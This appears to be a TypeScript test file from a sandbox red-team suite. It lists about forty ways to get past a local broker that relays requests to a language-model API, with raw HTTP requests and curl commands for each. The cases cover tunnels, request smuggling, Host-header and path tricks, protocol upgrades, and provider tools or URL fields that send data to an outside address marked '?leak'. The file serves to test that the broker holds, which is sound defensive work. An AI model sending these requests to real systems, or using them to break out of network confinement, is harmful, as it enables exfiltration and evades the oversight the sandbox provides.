import { attacks } from '../attack.ts'

/** Raw requests on the broker's socket that would lead elsewhere. `broker` sends bytes and prints the answer. */
const raw = (first: string, headers: readonly string[] = [], after = ''): string =>
  `broker "${[`${first} HTTP/1.1`, ...headers].join('\\\\r\\\\n')}\\\\r\\\\n\\\\r\\\\n${after}"`
const host = 'Host: 203.0.113.7'
const close = 'Connection: close'
const inner = 'GET /?leak HTTP/1.1\\\\r\\\\nHost: 203.0.113.7\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n'
const body = (content: string): string =>
  `B='{"model":"'$RT_MODEL'","max_tokens":10,"messages":[{"role":"user","content":${content}}]}'; curl -s -m 5 --unix-socket $RT_SOCKET -H "content-type: application/json" -d "$B" http://b/v1/messages`
const withField = (field: string): string =>
  `B='{"model":"'$RT_MODEL'","max_tokens":10,"messages":[{"role":"user","content":"x"}],${field}}'; curl -s -m 5 --unix-socket $RT_SOCKET -H "content-type: application/json" -d "$B" http://b/v1/messages`

export const brokerWays = [
  ...attacks('network.broker', 'broker', [
    ['connect', 'open a tunnel', raw('CONNECT 203.0.113.7:80', [host], inner)],
    ['connect-provider', 'open a tunnel to the provider’s own name', raw('CONNECT $RT_PROVIDER', [host], inner)],
    [
      'connect-smuggled',
      'put a tunnel into the body of another request',
      raw(
        'POST /v1/messages',
        ['Host: b', 'Content-Length: 0'],
        `CONNECT 203.0.113.7:80 HTTP/1.1\\\\r\\\\n${host}\\\\r\\\\n\\\\r\\\\n${inner}`,
      ),
    ],
    ['absolute', 'name another host in the request line', raw('GET http://203.0.113.7/', ['Host: b', close])],
    [
      'absolute-post',
      'post to another host by its full address',
      raw(
        'POST http://203.0.113.7/v1/messages',
        ['Host: b', 'Content-Type: application/json', 'Content-Length: 2', close],
        '{}',
      ),
    ],
    ['host-header', 'name another host in the header', raw('GET /anything', [host, close])],
    ['two-hosts', 'name two hosts', raw('GET /anything', ['Host: b', host, close])],
    [
      'forwarded',
      'name another host in forwarding headers',
      raw('GET /anything', ['Host: b', 'X-Forwarded-Host: 203.0.113.7', 'Forwarded: host=203.0.113.7', close]),
    ],
    ['double-slash', 'name another host in a path of two slashes', raw('GET //203.0.113.7/', ['Host: b', close])],
    ['user-info', 'hide another host behind an at sign', raw('GET http://b@203.0.113.7/', ['Host: b', close])],
    [
      'nul',
      'hide another host behind a NUL byte',
      raw('GET http://203.0.113.7\\\\u0000.b/', ['Host: b', close]),
      'The weak proxy’s HTTP parser refuses control bytes as well.',
    ],
    [
      'upgrade',
      'change the protocol',
      raw('GET http://203.0.113.7/', [
        'Host: b',
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      ]),
    ],
    [
      'h2c',
      'change to HTTP/2',
      raw('GET http://203.0.113.7/', [
        'Host: b',
        'Connection: Upgrade, HTTP2-Settings',
        'Upgrade: h2c',
        'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
      ]),
    ],
    [
      'length-chunked',
      'have two ends of one request',
      raw(
        'POST /anything',
        ['Host: b', 'Content-Length: 4', 'Transfer-Encoding: chunked'],
        `0\\\\r\\\\n\\\\r\\\\n${inner}`,
      ),
      'The weak proxy’s HTTP parser refuses it as well.',
    ],
    [
      'two-lengths',
      'give two lengths',
      raw('POST /anything', ['Host: b', 'Content-Length: 0', 'Content-Length: 90'], inner),
      'The weak proxy’s HTTP parser refuses it as well.',
    ],
    ['pipelined', 'send a second request behind an honest one', raw('GET /sentra/ping', ['Host: b'], inner)],
    ['other-path', 'use other parts of the provider’s API', raw('GET /v1/files', ['Host: b', close])],
    ['upload', 'leave data at the provider', raw('POST /v1/files', ['Host: b', 'Content-Length: 4', close], 'data')],
    ['encoded', 'leave the one path by encoded dots', raw('GET /v1/messages/%2e%2e/files', ['Host: b', close])],
    [
      'batches',
      'use the provider’s batches',
      raw('POST /v1/messages/batches', ['Host: b', 'Content-Type: application/json', 'Content-Length: 2', close], '{}'),
    ],
    [
      'socks',
      'speak another proxy protocol',
      'reach unix $RT_SOCKET "\\\\u0005\\\\u0001\\\\u0000"',
      'The weak proxy speaks HTTP only.',
    ],
    ['ftp', 'name another scheme', raw('GET ftp://203.0.113.7/', ['Host: b', close])],
  ]),
  ...attacks('network.model', 'broker', [
    [
      'web-fetch',
      'have the provider fetch a page',
      withField('"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]'),
    ],
    [
      'web-search',
      'have the provider search',
      withField('"tools":[{"type":"web_search_20250305","name":"web_search"}]'),
    ],
    [
      'mcp',
      'have the provider call a server of its own',
      withField('"mcp_servers":[{"type":"url","url":"http://203.0.113.7/","name":"x"}]'),
    ],
    [
      'code',
      'have the provider run code',
      withField('"tools":[{"type":"code_execution_20250825","name":"code_execution"}],"container":"c"'),
    ],
    [
      'image-url',
      'have the provider load an image',
      body('[{"type":"image","source":{"type":"url","url":"http://203.0.113.7/?leak"}}]'),
    ],
    [
      'document-url',
      'have the provider load a document',
      body('[{"type":"document","source":{"type":"url","url":"http://203.0.113.7/?leak"}}]'),
    ],
    [
      'file-id',
      'have the provider read a file of the account',
      body('[{"type":"document","source":{"type":"file","file_id":"file_1"}}]'),
    ],
    [
      'duplicate',
      'write a field twice, for two readers',
      withField(
        '"stream":false,"mcp_servers":[],"mcp_servers":[{"type":"url","url":"http://203.0.113.7/","name":"x"}]',
      ),
    ],
    ['metadata', 'leave data in a field for the account’s owner', withField('"metadata":{"user_id":"leak-data"}')],
    ['tier', 'ask for a dearer tier', withField('"service_tier":"priority","speed":"fast"')],
    [
      'beta',
      'switch features on by a header',
      `B='{"model":"'$RT_MODEL'","max_tokens":10,"messages":[{"role":"user","content":"x"}]}'; curl -s -m 5 --unix-socket $RT_SOCKET -H "content-type: application/json" -H "anthropic-beta: files-api-2025-04-14" -d "$B" http://b/v1/messages`,
    ],
  ]),
  ...attacks('network.redirect', 'answers', [
    ['moved', 'have an answer lead elsewhere (301)', body('"FAULT redirect-301"')],
    ['temporary', 'have an answer lead elsewhere with its body (307)', body('"FAULT redirect-307"')],
    ['other-method', 'have an answer lead elsewhere as a GET (303)', body('"FAULT redirect-303"')],
  ]),
]
